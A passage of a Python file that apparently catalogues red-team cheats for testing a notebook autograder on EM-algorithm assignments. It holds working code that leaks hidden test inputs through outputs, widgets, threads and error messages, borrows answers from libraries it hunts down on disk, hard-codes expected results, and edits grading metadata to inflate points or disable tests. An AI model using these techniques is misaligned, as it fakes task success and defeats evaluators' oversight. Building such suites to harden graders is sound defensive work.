    _rt_ip.events.register("pre_run_cell", _rt_send)
''')})


_add("exfil_display_update", "exfiltration", "partial", leaks=True, append={"log_likelihood_matrix": PROBE_HOOK + _c('''
    # outputs of THIS cell (before the first test cell, so they are kept in the feedback) are
    # updated later, through their display ids, with every probe's payload: plain, ROT13, base64
    import base64, codecs
    from IPython.display import display, update_display
    _rt_encodings = {"rt-plain": lambda t: t, "rt-rot13": lambda t: codecs.encode(t, "rot13"),
                     "rt-b64": lambda t: base64.b64encode(t.encode()).decode()}
    for _name in _rt_encodings:
        display({"text/plain": "notes"}, raw=True, display_id=_name)
    def _rt_grab(info):
        payload = _rt_payload(info.raw_cell or "")
        if payload is not None:
            _rt_seen_payloads.append(payload)
            for name, encode in _rt_encodings.items():
                update_display({"text/plain": encode("\\n".join(_rt_seen_payloads))[:400000]}, raw=True,
                               display_id=name)
    _rt_ip.events.register("pre_run_cell", _rt_grab)
''')})

_add("exfil_background_thread", "exfiltration", "partial", leaks=True,
     append={"log_likelihood_matrix": PROBE_HOOK + _c('''
    # a thread started HERE (before the first test cell) waits for the hidden probes, then prints,
    # displays and updates this cell's output with their payloads
    import base64, codecs, sys, threading, time
    from IPython.display import display, update_display
    display({"text/plain": "thread notes"}, raw=True, display_id="rt-thread")
    def _rt_keep(info):
        payload = _rt_payload(info.raw_cell or "")
        if payload is not None:
            _rt_seen_payloads.append(payload)
    _rt_ip.events.register("pre_run_cell", _rt_keep)
    def _rt_watch():
        sent = 0
        while True:
            time.sleep(0.02)
            if len(_rt_seen_payloads) > sent:
                sent = len(_rt_seen_payloads)
                text = "\\n".join(_rt_seen_payloads)[:100000]
                for out in (print, lambda t: sys.stderr.write(base64.b64encode(t.encode()).decode())):
                    try:
                        out(text)
                    except Exception:
                        pass
                try:
                    update_display({"text/plain": codecs.encode(text, "rot13")}, raw=True, display_id="rt-thread")
                    display({"text/plain": text}, raw=True, display_id="rt-thread")
                except Exception:
                    pass
    threading.Thread(target=_rt_watch, daemon=True).start()
''')})

_add("exfil_widget_state", "exfiltration", "partial", leaks=True,
     append={"log_likelihood_matrix": PROBE_HOOK + _c('''
    # a widget model opened here; its state is updated with every probe's payload (nbclient can
    # store widget state in the notebook's metadata, and the HTML feedback embeds it)
    try:
        from comm import create_comm as _rt_create_comm
    except ImportError:
        from ipykernel.comm import Comm as _rt_create_comm
    _rt_state = {"_model_name": "HTMLModel", "_model_module": "@jupyter-widgets/controls",
                 "_model_module_version": "2.0.0", "_view_name": "HTMLView", "value": "notes"}
    _rt_comm = _rt_create_comm(target_name="jupyter.widget", data={"state": _rt_state, "buffer_paths": []},
                               metadata={"version": "2.1.0"})
    from IPython.display import display
    display({"application/vnd.jupyter.widget-view+json": {"model_id": _rt_comm.comm_id, "version_major": 2,
                                                          "version_minor": 0}, "text/plain": "widget"}, raw=True)
    def _rt_send(info):
        payload = _rt_payload(info.raw_cell or "")
        if payload is not None:
            _rt_seen_payloads.append(payload)
            _rt_comm.send({"method": "update", "state": {"value": "\\n".join(_rt_seen_payloads)[:200000]},
                           "buffer_paths": []})
    _rt_ip.events.register("pre_run_cell", _rt_send)
''')})

_add("exfil_error_message_channel", "exfiltration", "partial", leaks=True, append={
    "log_likelihood_matrix": _c('''
    # remember every input my function is called with (the hidden ones too) ...
    import base64, codecs
    _rt_inputs = []
    _rt_llm = log_likelihood_matrix
    def log_likelihood_matrix(x, components):
        _rt_inputs.append(np.ascontiguousarray(x))
        return _rt_llm(x, components)
    '''),
    "e_step_n": _c('''
    # ... and send them back in the message of an error in a VISIBLE case (messages reach the feedback)
    _rt_calls = [0]
    def e_step_n(x, weights, components):
        _rt_calls[0] += 1
        hidden = [a for a in _rt_inputs[2:]]
        if hidden and _rt_calls[0] <= 3:
            blob = base64.b64encode(hidden[(_rt_calls[0] - 1) % len(hidden)].tobytes()).decode()
            if _rt_calls[0] == 2:
                blob = codecs.encode(blob, "rot13")
            raise ValueError(blob[:250])
        raise NotImplementedError()
    ''')})

_add("exfil_later_cell_outputs", "exfiltration", "partial", leaks=True, append={
    "log_likelihood_matrix": PROBE_HOOK + _c('''
    def _rt_keep(info):
        payload = _rt_payload(info.raw_cell or "")
        if payload is not None:
            _rt_seen_payloads.append(payload)
    _rt_ip.events.register("pre_run_cell", _rt_keep)
    '''),
    "em_n": _c('''
    # printed by the last (ungraded) cell, which calls em_n after all the tests
    import base64, codecs, sys
    def em_n(x, components, weights_init=None, tol=1e-8, max_iter=1000):
        text = "\\n".join(_rt_seen_payloads)
        print(text[:100000])
        print(codecs.encode(text[:100000], "rot13"))
        sys.stderr.write(base64.b64encode(text[:100000].encode()).decode())
        with open("leak.txt", "w") as fh:
            fh.write(text)
        raise NotImplementedError()
    ''')})

# ----- delegation ------------------------------------------------------------------------------
_add("delegate_library_em", "delegation", "partial", append=_both(_c('''
    import importlib, sys, types
    import mixlearn.em
    from mixlearn import e_step as _lib_e_step, em_n_components as _lib_em
    # an alias, a saved copy of the code object, a reloaded module and a fresh import, whichever works
    _candidates = [_lib_em, mixlearn.em.em_n_components]
    _candidates.append(types.FunctionType(mixlearn.em.em_n_components.__code__, mixlearn.em.__dict__))
    try:
        _candidates.append(importlib.reload(mixlearn.em).em_n_components)
    except Exception:
        pass
    for _name in [m for m in sys.modules if m == "mixlearn" or m.startswith("mixlearn.")]:
        del sys.modules[_name]
    try:
        import mixlearn as _fresh
        _candidates.append(_fresh.em_n_components)
        _e_candidates = [_lib_e_step, _fresh.e_step, ml.e_step]
    except Exception:
        _e_candidates = [_lib_e_step, ml.e_step]

    def e_step_n(x, weights, components):
        for f in _e_candidates:
            try:
                return f(x, weights, components)
            except Exception:
                continue
        raise NotImplementedError()

    def em_n(x, components, weights_init=None, tol=1e-8, max_iter=1000):
        for f in _candidates:
            try:
                r = f(x, components, weights_init=weights_init, tol=tol, max_iter=max_iter)
                return r.weights, list(r.log_likelihoods)
            except Exception:
                continue
        raise NotImplementedError()
''')))

_add("delegate_source_from_disk", "delegation", "partial", append={"em_n": _c('''
    import inspect, os, sys
    # read mixlearn's em.py from disk (wherever a copy can be found) and run it
    _src = None
    _places = []
    try:
        _places.append(inspect.getsourcefile(ml.em))
    except Exception:
        pass
    for _entry in sys.path:
        _places.append(os.path.join(_entry or ".", "mixlearn", "em.py"))
    import time
    _t0 = time.monotonic()
    for _top in ("/work", "/root", "/home", "/tmp", "/opt", "/usr/local/lib"):
        for _base, _dirs, _files in os.walk(_top):
            if _base.count("/") > 7 or time.monotonic() - _t0 > 5:
                _dirs[:] = []
            if "em.py" in _files and os.path.basename(_base) == "mixlearn":
                _places.append(os.path.join(_base, "em.py"))
    for _p in _places:
        try:
            _text = open(_p).read()
        except Exception:
            continue
        if "def em_n_components" in _text and "switched off" not in _text:
            _src = _text
            break
    _ns = {"__name__": "mixlearn.em", "__package__": "mixlearn"}
    if _src:
        exec(compile(_src, "em.py", "exec"), _ns)

    def em_n(x, components, weights_init=None, tol=1e-8, max_iter=1000):
        r = _ns["em_n_components"](x, components, weights_init=weights_init, tol=tol, max_iter=max_iter)
        return r.weights, list(r.log_likelihoods)
''')})

_add("delegate_sklearn", "delegation", "partial", append={"em_n": _c('''
    import glob, sys
    # scikit-learn's GaussianMixture, from wherever it can be imported
    try:
        from sklearn.mixture import GaussianMixture
    except ImportError:
        for _sp in glob.glob("/root/.pyenv/versions/*/lib/python3*/site-packages") + glob.glob("/usr/lib/python3/dist-packages"):
            sys.path.append(_sp)
        try:
            from sklearn.mixture import GaussianMixture
        except ImportError:
            GaussianMixture = None

    def em_n(x, components, weights_init=None, tol=1e-8, max_iter=1000):
        gm = GaussianMixture(len(components), means_init=np.array([[c.logpdf(np.zeros(1))[0]] for c in components]),
                             tol=tol, max_iter=max_iter).fit(np.asarray(x, float).reshape(-1, 1))
        return gm.weights_, [gm.lower_bound_] * 2
''')})

_add("delegate_library_internals", "delegation", "partial",
     note="the E-step rebuilt from mixlearn.mixture's private helpers, which the student edition keeps",
     append=_both(_c('''
    from mixlearn import mixture as _mx

    def e_step_n(x, weights, components):
        # mixlearn's own posterior, from the pieces the student edition leaves in place
        wlp = _mx._weighted_log_prob(np.asarray(x), np.asarray(weights, float), components)
        lse = _mx.logsumexp_components(wlp)
        return np.exp(wlp - lse).T, float(lse.mean())
''')))

# ----- knowing the tests ----------------------------------------------------------------------
_add("know_visible_answers", "knowing", "partial", append=_both(_c('''
    # the visible tests' answers, hard-coded (worked out at home with the real library)
    _RT_VISIBLE = @VISIBLE@

    def _rt_key(name, x, w):
        import hashlib
        h = hashlib.sha256(name.encode())
        h.update(np.asarray(x, dtype=float).round(10).tobytes())
        h.update(b"none" if w is None else np.asarray(w, dtype=float).round(10).tobytes())
        return h.hexdigest()

    def e_step_n(x, weights, components):
        r = _RT_VISIBLE.get(_rt_key("e_step_n", x, weights))
        if r is None:
            raise NotImplementedError()
        return np.array(r[0]), r[1]

    def em_n(x, components, weights_init=None, tol=1e-8, max_iter=1000):
        r = _RT_VISIBLE.get(_rt_key("em_n", x, weights_init))
        if r is None:
            raise NotImplementedError()
        return np.array(r[0]), list(r[1])
''')))

_add("know_fixed_seed_hidden_answers", "knowing", "partial", append=_both(_c('''
    # the answers for the visible inputs AND for the hidden inputs of solutions/04_em_n (fixed seeds 71-76)
    _RT_ANSWERS = @FIXED@

    def _rt_key(name, x, w):
        import hashlib
        h = hashlib.sha256(name.encode())
        h.update(np.asarray(x, dtype=float).round(10).tobytes())
        h.update(b"none" if w is None else np.asarray(w, dtype=float).round(10).tobytes())
        return h.hexdigest()

    def e_step_n(x, weights, components):
        r = _RT_ANSWERS.get(_rt_key("e_step_n", x, weights))
        if r is None:
            raise NotImplementedError()
        return np.array(r[0]), r[1]

    def em_n(x, components, weights_init=None, tol=1e-8, max_iter=1000):
        r = _RT_ANSWERS.get(_rt_key("em_n", x, weights_init))
        if r is None:
            raise NotImplementedError()
        return np.array(r[0]), list(r[1])
''')))

_add("know_history_check_shape", "knowing", "partial",
     note="trusted_checks.py's history check never asks that the weights move: no EM at all passes it",
     append={"em_n": _c('''
    # the history check only looks at the log-likelihoods' shape, their first and last value and
    # monotonicity: report the start, unchanged, as many times as it wants
    def em_n(x, components, weights_init=None, tol=1e-8, max_iter=1000):
        k = len(components)
        w = np.full(k, 1.0 / k) if weights_init is None else np.asarray(weights_init, dtype=float)
        ll = float(ml.mixture_logpdf(np.asarray(x), w, components).mean())
        return w, [ll] * (max_iter + 1 if tol == 0 else 2)
''')})

# ----- the notebook's metadata ---------------------------------------------------------------
_add("meta_points_flags_and_kernel", "metadata", "partial",
     note="test cells worth 100, a test cell that is no longer a test, an answer cell that claims points, "
          "another kernel",
     meta={"test_m_step_n": {"points": 100}, "test_em_n_history": {"grade": False, "locked": False},
           "em_n": {"grade": True, "points": 50},
           "*": {"kernelspec": {"name": "bash", "display_name": "Bash", "language": "bash"}}},
     replace={"em_n": _c('''
    def em_n(x, components, weights_init=None, tol=1e-8, max_iter=1000):
        raise NotImplementedError()

    expect_close = lambda *args, **kwargs: None
''')})


# ----- assignment 5: the whole fit is scikit-learn's GaussianMixture ---------------------------
SKLEARN_ANYWHERE = _c('''
    def _rt_import_sklearn():
        """scikit-learn's GaussianMixture from wherever a copy can be reached: the environment, the base
        interpreter's site-packages, or a wheel lying in a mounted folder (unpacked into /tmp)."""
        import glob, os, sys, time, zipfile
        def forget():
            for name in [m for m in sys.modules if m == "sklearn" or m.startswith("sklearn.")]:
                del sys.modules[name]

        try:
            from sklearn.mixture import GaussianMixture
            return GaussianMixture
        except ImportError:
            forget()
        for sp in (glob.glob(os.path.join(sys.base_prefix, "lib", "python3*", "site-packages"))
                   + glob.glob("/usr/lib/python3/dist-packages") + glob.glob("/usr/local/lib/python3*/*-packages")):
            if os.path.isdir(os.path.join(sp, "sklearn")):
                sys.path.insert(0, sp)     # ahead of the environment's (hidden or stubbed) copy
        try:
            from sklearn.mixture import GaussianMixture
            return GaussianMixture
        except ImportError:
            forget()
        wheels, t0 = [], time.monotonic()
        for depth in range(1, 5):
            for top in ("/opt", "/usr/share", "/usr/local", "/srv", "/var", sys.base_prefix, sys.prefix):
                wheels += glob.glob(os.path.join(top, *["*"] * depth, "scikit_learn-*.whl"))
        for top in ("/opt", "/usr/share", "/usr/local", "/srv", sys.base_prefix, sys.prefix, os.path.expanduser("~")):
            for base, dirs, files in os.walk(top):
                if time.monotonic() - t0 > 15 or base.count(os.sep) > 6:
                    dirs[:] = []
                wheels += [os.path.join(base, f) for f in files if f.startswith("scikit_learn-") and f.endswith(".whl")]
        for whl in sorted(wheels, key=os.path.basename, reverse=True):
            dest = "/tmp/rt-sklearn-" + os.path.basename(whl)[:20]
            try:
                zipfile.ZipFile(whl).extractall(dest)
                sys.path.insert(0, dest)
                from sklearn.mixture import GaussianMixture
                return GaussianMixture
            except Exception:
                sys.path.remove(dest)
                forget()
        raise ImportError("no scikit-learn in reach")
''')

_SKLEARN_05 = SKLEARN_ANYWHERE + _c('''
    # assignment 5 is exactly what scikit-learn's GaussianMixture does
    try:
        _SkGM = _rt_import_sklearn()

        def gmm_e_step(x, weights, means, variances):
            x = np.asarray(x, float).reshape(-1, 1)
            gm = _SkGM(len(weights), covariance_type="diag")
            gm.weights_ = np.asarray(weights, float)
            gm.means_ = np.asarray(means, float).reshape(-1, 1)
            gm.covariances_ = np.asarray(variances, float).reshape(-1, 1)
            gm.precisions_cholesky_ = 1 / np.sqrt(gm.covariances_)
            return gm.predict_proba(x), float(gm.score(x))

        def fit_gmm_1d(x, weights, means, variances, tol=1e-8, max_iter=1000):
            x = np.asarray(x, float).reshape(-1, 1)
            gm = _SkGM(len(weights), covariance_type="diag", reg_covar=0.0, tol=tol, max_iter=max_iter,
                       weights_init=np.asarray(weights, float), means_init=np.asarray(means, float).reshape(-1, 1),
                       precisions_init=1 / np.asarray(variances, float).reshape(-1, 1)).fit(x)
            return {"weights": gm.weights_, "means": gm.means_.ravel(), "variances": gm.covariances_.ravel(),
                    "log_likelihoods": [float(gm.score(x))] * 2}
    except Exception as _exc:
        print("no scikit-learn:", type(_exc).__name__, _exc)
''')

CHEATS_05 = [Cheat("gmm_delegate_sklearn", "delegation", "release",
                   append={"gmm_e_step": _SKLEARN_05, "fit_gmm_1d": _SKLEARN_05},
                   note="assignment 5 fitted by scikit-learn's GaussianMixture")]


def by_name() -> dict:
    return {c.name: c for c in CHEATS}


assert len(by_name()) == len(CHEATS), "cheat names must be unique"
assert {c.category for c in CHEATS} == set(CATEGORIES), "every category has a cheat"
